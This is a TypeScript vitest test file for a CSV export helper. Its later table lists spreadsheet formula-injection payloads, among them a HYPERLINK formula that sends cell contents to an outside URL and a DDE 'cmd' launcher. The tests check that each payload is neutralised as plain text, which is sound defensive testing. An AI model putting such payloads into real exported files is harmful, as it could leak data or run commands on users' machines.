import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { CsvColumn } from './records-panel.tsx';
import { toCsv } from './to-csv.ts';

const TEXT: readonly CsvColumn<string>[] = [
  ['Text', (text) => text],
  ['Length', (text) => String(text.length)],
];
const cellOf = (text: string) => Papa.parse<string[]>(toCsv(TEXT, [text]).slice(1)).data[1]?.[0];

describe('a sheet', () => {
  it('starts with the UTF-8 mark and headings, then one row per line', () => {
    expect(toCsv(TEXT, ['Lucía', 'b'])).toBe('\ufeffText,Length\r\nLucía,5\r\nb,1');
  });

  it('contains only its headings without rows', () => {
    expect(toCsv(TEXT, [])).toBe('\ufeffText,Length\r\n');
  });

  it.each([
    'a,b',
    'a "quoted" word',
    'two\nlines',
    'two\r\nlines',
    '',
    ' spaces ',
    'a=b',
    'a-b',
    '№ 5',
    '5 + 5',
    '👩‍🔬',
  ])('preserves %j', (text) => {
    expect(cellOf(text)).toBe(text);
  });

  it.each([
    '=HYPERLINK("https://example.com?"&A1,"Click")',
    '=1+1',
    '+1+1',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\u202e=1+1',
    '＝1+1',
    '"=1+1',
    "'=1+1",
    '|cmd',
    '%0A=1',
    '+44 20 7946 0000',
    '\tindented',
  ])('turns %j into plain text', (text) => {
    expect(cellOf(text)).toBe(`'${text}`);
  });
});
